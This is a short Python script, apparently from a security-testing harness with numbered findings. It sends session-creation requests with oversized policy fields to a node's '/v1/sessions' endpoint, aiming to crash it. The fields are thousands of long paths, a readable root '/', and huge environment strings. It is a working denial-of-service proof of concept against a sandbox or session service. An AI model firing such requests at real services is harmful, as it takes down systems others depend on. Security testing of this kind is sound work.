# name: end the node by asking for a session with a long policy
# line: 68
# finding: 6
# play: outside
import json

from attack import STAGE, ask_node, planted_or_ended


def wanted(policy):
    return json.dumps({"policy": {"isolation": STAGE["level"], **policy}}).encode()


LONG = [f"/srv/{n}/" + "x/" * 400 for n in range(256)]
planted_or_ended([
    ("hidden", lambda: ask_node("POST", "/v1/sessions", wanted({"hidden": LONG}))),
    ("readable", lambda: ask_node("POST", "/v1/sessions", wanted({"readable": ["/", *LONG[:255]]}))),
    ("environment", lambda: ask_node("POST", "/v1/sessions", wanted({"environment": [f"A{'x' * 4000}{n}" for n in range(256)]}))),
])
